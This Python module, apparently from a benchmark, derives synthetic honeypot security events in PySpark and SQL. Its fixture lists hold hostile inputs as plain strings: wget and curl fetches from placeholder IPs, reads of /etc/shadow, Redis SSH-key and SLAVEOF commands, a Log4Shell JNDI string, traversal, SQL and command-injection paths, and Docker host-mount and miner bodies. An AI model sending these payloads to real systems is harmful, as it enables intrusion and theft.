"""The driver's tables seen as security tables, in Spark and in SQL.

The tables hold no security log, so each event row is given protocol fields by
arithmetic on its own columns. The value lists below feed both engines; the
expressions are written twice so that one checks the other.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from sablewatch.session import shared_folder, use_utc

# --- fixture values ----------------------------------------------------------
USERNAMES = ["root", "admin", "user", "guest", "support", "oracle", "svc-backup"]
PASSWORDS = ["xc3511", "admin", "123456", "password", "", "root", "888888", "guest", "support"]
SHELL = [
    "cat /etc/shadow", "/bin/busybox MIRAI", "wget http://198.51.100.7/bins.sh", "uname -a",
    "cd /tmp; curl -O http://203.0.113.9/x", "chmod +x a.sh",
]
REDIS = [
    "CONFIG SET dir /root/.ssh", "SET x ssh-rsa AAAA", "INFO", "SLAVEOF 198.51.100.9 6379",
    "AUTH secret", "GET k",
]
FTP = ["USER anonymous", "STOR a.bin", "PORT 1,2,3,4,5,6", "LIST", "RETR b.txt", "QUIT"]
PATHS = [
    "/index.html", "/.env", "/..%2f..%2fetc/passwd", "/search?q=1 union select 1",
    "/wp-login.php", "/a?x=${jndi:ldap://e/x}", "/cgi-bin/test", "/?q=<script>",
    "/run?c=;cat /etc/passwd",
]
DOCKER = [
    "/v1.40/containers/create", "/version", "/containers/abc/start", "/images/create", "/foo",
]
BODIES = [
    '{"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}', '{"Image":"xmrig/xmrig"}',
    '{"HostConfig":{"PidMode":"host"}}', "",
]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64)", "curl/8.1.0", "sqlmap/1.7", "zgrab/0.x", "Mozi.m", "x",
    "python-requests/2.31",
]
HTTP_TAGS = ["", "env-file-probe", "path-traversal", "sql-injection", "webshell-upload",
             "log4shell", "", "", "", ""]
DOCKER_TAGS = ["docker-host-mount", "docker-recon", "docker-execute", "", ""]
COUNTRIES = ["US", "DE", "CN", "NL"]
COUNTRY_NAMES = ["United States", "Germany", "China", "Netherlands"]
ORGS = ["Hetzner Online", "DigitalOcean LLC", "Deutsche Telecom", "Mullvad VPN",
        "State University", "Some Carrier", "Amazon AWS"]


def load(spark: SparkSession, sf: str, name: str) -> DataFrame:
    use_utc(spark)
    return spark.read.parquet(f"{sf}/{name}.parquet")


def _at(values: list[str], index: Column) -> Column:
    return F.element_at(F.array(*[F.lit(v) for v in values]), index.cast("int") + 1)


def _sql(values: list[str], index: str) -> str:
    quoted = ", ".join("'" + v.replace("'", "''") + "'" for v in values)
    return f"([{quoted}])[({index}) + 1]"


_VIEWS: dict[tuple[str, str], DataFrame] = {}


def events(spark: SparkSession, sf: str) -> DataFrame:
    """The event table: derived from the whole of ``events`` and stored once per application.

    Stored, because the reference's queries read a stored event table too, and
    so filters and columns reach a Parquet scan.
    """
    use_utc(spark)
    key = (spark.sparkContext.applicationId, sf)
    if key not in _VIEWS:
        folder = shared_folder(spark, "event-table")
        project_events(load(spark, sf, "events"), spread=True).write.parquet(folder)
        _VIEWS[key] = spark.read.parquet(folder)
    return _VIEWS[key]


def spread_out(df: DataFrame, key: str) -> DataFrame:
    """Use all cores on a table that is one small file; a large scan is left alone."""
    cores = df.sparkSession.sparkContext.defaultParallelism
    return df.repartition(cores, key) if df.rdd.getNumPartitions() < cores else df


def project_events(raw: DataFrame, spread: bool = False) -> DataFrame:
    e, u = F.col("event_id"), F.col("user_id")
    base = raw.select(
        e.alias("eid"),
        u.alias("uid"),
        F.get_json_object("props", "$.k").cast("bigint").alias("k"),
        (e % 12).alias("kind"),
        F.col("ts").cast("timestamp").alias("ts"),
        F.col("value").alias("threat_score"),
    )
    if spread:
        base = spread_out(base, "eid")
    k, kind, uid = F.col("k"), F.col("kind"), F.col("uid")
    auth = kind.isin(0, 1, 2, 3, 8, 11)
    web = kind.isin(5, 6)
    service = (
        F.when(kind.isin(0, 1, 2, 11), "ssh")
        .when(kind.isin(3, 4), "telnet")
        .when(web, "http")
        .when(kind == 7, "redis")
        .when(kind == 8, "mysql")
        .when(kind == 9, "docker")
        .otherwise("ftp")
    )
    event_type = (
        F.when(kind == 11, "auth_success")
        .when(auth, "auth_attempt")
        .when(kind.isin(4, 7, 10), "command")
        .otherwise("http_request")
    )
    band = (
        F.when(F.col("threat_score") >= 150, "critical")
        .when(F.col("threat_score") >= 80, "high")
        .when(F.col("threat_score") >= 30, "medium")
        .when(F.col("threat_score") >= 10, "low")
        .otherwise("info")
    )
    tag = (
        F.when((kind == 3) & (k % 5 == 0), "iot-default-credential")
        .when((kind == 4) & (k % 6 == 1), "mirai-signature")
        .when((kind == 4) & (k % 6).isin(2, 4), "payload-fetch")
        .when(web, _at(HTTP_TAGS, k % 10))
        .when((kind == 7) & (k % 6).isin(0, 3), "redis-dangerous")
        .when((kind == 7) & (k % 6 == 1), "redis-rce-payload")
        .when(kind == 9, _at(DOCKER_TAGS, k % 5))
        .when((kind == 10) & (k % 6 == 2), "ftp-bounce-attempt")
        .otherwise("")
    )
    intel = (
        F.when(k % 4 == 0, F.array(F.lit("hosting-provider"), F.lit("scanner:zgrab")))
        .when(k % 4 == 1, F.array(F.lit("ti:alpha")))
        .when(k % 4 == 2, F.array(F.lit("vpn-or-tor")))
        .otherwise(F.array().cast("array<string>"))
    )
    place = uid % 5
    located = place < 4
    networked = uid % 4 != 0
    octets = [F.lit("45"), F.floor(uid / 62500) % 200 + 1, F.floor(uid / 250) % 250 + 1,
              uid % 250 + 1]
    return base.select(
        F.col("eid").cast("string").alias("event_id"),
        "ts",
        F.concat(F.lit("s"), uid, F.lit("-"), F.date_format("ts", "yyyyMMdd")).alias("session_id"),
        F.lit("sensor-1").alias("sensor"),
        service.alias("service"),
        event_type.alias("event_type"),
        F.concat_ws(".", *[o.cast("string") for o in octets]).alias("src_ip"),
        (F.lit(1024) + F.col("eid") % 60000).alias("src_port"),
        F.when(auth, F.when(k % 8 == 7, F.concat(F.lit("u"), k)).otherwise(
            _at(USERNAMES, F.least(k % 8, F.lit(6))))).alias("username"),
        F.when(auth & (kind != 8), F.when(k % 10 == 9, F.lit(None).cast("string")).otherwise(
            _at(PASSWORDS, F.least(k % 10, F.lit(8))))).alias("password"),
        F.when(kind == 4, _at(SHELL, k % 6))
        .when(kind == 7, _at(REDIS, k % 6))
        .when(kind == 10, _at(FTP, k % 6))
        .alias("command"),
        F.when(web, F.when(k % 9 == 0, "PROPFIND").when(k % 3 == 0, "POST").otherwise("GET"))
        .when(kind == 9, "POST")
        .alias("http_method"),
        F.when(web, F.when(k % 10 == 9, F.concat(F.lit("/p/"), k)).otherwise(
            _at(PATHS, F.least(k % 10, F.lit(8)))))
        .when(kind == 9, _at(DOCKER, k % 5))
        .alias("path"),
        F.when(web, _at(AGENTS, k % 7)).alias("user_agent"),
        F.when(kind == 9, _at(BODIES, k % 4))
        .when(web & (k % 3 == 0), F.concat(F.lit("user=admin&pass=pw"), k))
        .alias("body"),
        F.when(kind.isin(4, 10), F.sha2(F.concat(F.lit("payload-"), k % 20), 256)).alias(
            "payload_sha256"
        ),
        F.when(located, _at(COUNTRIES, F.least(place, F.lit(3)))).alias("country"),
        F.when(located, _at(COUNTRY_NAMES, F.least(place, F.lit(3)))).alias("country_name"),
        F.when(located, (uid % 90).cast("double")).alias("latitude"),
        F.when(located, (uid % 180).cast("double")).alias("longitude"),
        F.when(networked, F.lit(64500) + uid % 7).alias("asn"),
        F.when(networked, _at(ORGS, uid % 7)).alias("as_org"),
        "threat_score",
        intel.alias("threat_tags"),
        band.alias("severity"),
        F.when(tag != "", F.array(tag)).otherwise(F.array().cast("array<string>")).alias("tags"),
        "uid",
        "k",
        "kind",
    )


def texts(spark: SparkSession, sf: str, name: str, key: str) -> DataFrame:
    return spread_out(load(spark, sf, name), key)


EVENTS_SQL = f"""
raw AS (
  SELECT event_id AS eid, user_id AS uid, ts, value AS threat_score,
         CAST(json_extract_string(props, '$.k') AS BIGINT) AS k, event_id % 12 AS kind
  FROM events),
ev AS (
  SELECT CAST(eid AS VARCHAR) AS event_id, eid, ts, uid, k, kind, threat_score,
    's' || uid || '-' || strftime(ts, '%Y%m%d') AS session_id,
    'sensor-1' AS sensor,
    CASE WHEN kind IN (0,1,2,11) THEN 'ssh' WHEN kind IN (3,4) THEN 'telnet'
         WHEN kind IN (5,6) THEN 'http' WHEN kind = 7 THEN 'redis' WHEN kind = 8 THEN 'mysql'
         WHEN kind = 9 THEN 'docker' ELSE 'ftp' END AS service,
    CASE WHEN kind = 11 THEN 'auth_success' WHEN kind IN (0,1,2,3,8) THEN 'auth_attempt'
         WHEN kind IN (4,7,10) THEN 'command' ELSE 'http_request' END AS event_type,
    '45.' || (uid // 62500) % 200 + 1 || '.' || (uid // 250) % 250 + 1 || '.' || uid % 250 + 1
      AS src_ip,
    1024 + eid % 60000 AS src_port,
    CASE WHEN kind IN (0,1,2,3,8,11) THEN CASE WHEN k % 8 = 7 THEN 'u' || k
         ELSE {_sql(USERNAMES, "k % 8")} END END AS username,
    CASE WHEN kind IN (0,1,2,3,11) THEN CASE WHEN k % 10 = 9 THEN NULL
         ELSE {_sql(PASSWORDS, "k % 10")} END END AS password,
    CASE WHEN kind = 4 THEN {_sql(SHELL, "k % 6")} WHEN kind = 7 THEN {_sql(REDIS, "k % 6")}
         WHEN kind = 10 THEN {_sql(FTP, "k % 6")} END AS command,
    CASE WHEN kind IN (5,6) THEN CASE WHEN k % 9 = 0 THEN 'PROPFIND' WHEN k % 3 = 0 THEN 'POST'
         ELSE 'GET' END WHEN kind = 9 THEN 'POST' END AS http_method,
    CASE WHEN kind IN (5,6) THEN CASE WHEN k % 10 = 9 THEN '/p/' || k
         ELSE {_sql(PATHS, "k % 10")} END WHEN kind = 9 THEN {_sql(DOCKER, "k % 5")} END AS path,
    CASE WHEN kind IN (5,6) THEN {_sql(AGENTS, "k % 7")} END AS user_agent,
    CASE WHEN kind = 9 THEN {_sql(BODIES, "k % 4")}
         WHEN kind IN (5,6) AND k % 3 = 0 THEN 'user=admin&pass=pw' || k END AS body,
    CASE WHEN kind IN (4,10) THEN sha256('payload-' || k % 20) END AS payload_sha256,
    CASE WHEN uid % 5 < 4 THEN {_sql(COUNTRIES, "uid % 5")} END AS country,
    CASE WHEN uid % 5 < 4 THEN {_sql(COUNTRY_NAMES, "uid % 5")} END AS country_name,
    CASE WHEN uid % 5 < 4 THEN CAST(uid % 90 AS DOUBLE) END AS latitude,
    CASE WHEN uid % 5 < 4 THEN CAST(uid % 180 AS DOUBLE) END AS longitude,
    CASE WHEN uid % 4 <> 0 THEN 64500 + uid % 7 END AS asn,
    CASE WHEN uid % 4 <> 0 THEN {_sql(ORGS, "uid % 7")} END AS as_org,
    CASE k % 4 WHEN 0 THEN ['hosting-provider', 'scanner:zgrab'] WHEN 1 THEN ['ti:alpha']
         WHEN 2 THEN ['vpn-or-tor'] ELSE CAST([] AS VARCHAR[]) END AS threat_tags,
    CASE WHEN threat_score >= 150 THEN 'critical' WHEN threat_score >= 80 THEN 'high'
         WHEN threat_score >= 30 THEN 'medium' WHEN threat_score >= 10 THEN 'low'
         ELSE 'info' END AS severity,
    CASE WHEN threat_score >= 150 THEN 4 WHEN threat_score >= 80 THEN 3
         WHEN threat_score >= 30 THEN 2 WHEN threat_score >= 10 THEN 1 ELSE 0 END AS sev_rank,
    CASE WHEN kind = 3 AND k % 5 = 0 THEN 'iot-default-credential'
         WHEN kind = 4 AND k % 6 = 1 THEN 'mirai-signature'
         WHEN kind = 4 AND k % 6 IN (2, 4) THEN 'payload-fetch'
         WHEN kind IN (5,6) THEN {_sql(HTTP_TAGS, "k % 10")}
         WHEN kind = 7 AND k % 6 IN (0, 3) THEN 'redis-dangerous'
         WHEN kind = 7 AND k % 6 = 1 THEN 'redis-rce-payload'
         WHEN kind = 9 THEN {_sql(DOCKER_TAGS, "k % 5")}
         WHEN kind = 10 AND k % 6 = 2 THEN 'ftp-bounce-attempt' ELSE '' END AS tag
  FROM raw)
"""


def sql(body: str, *ctes: str) -> str:
    """A statement over the ``ev`` view plus more named subqueries."""
    return "WITH " + ",\n".join([EVENTS_SQL, *ctes]) + "\n" + body
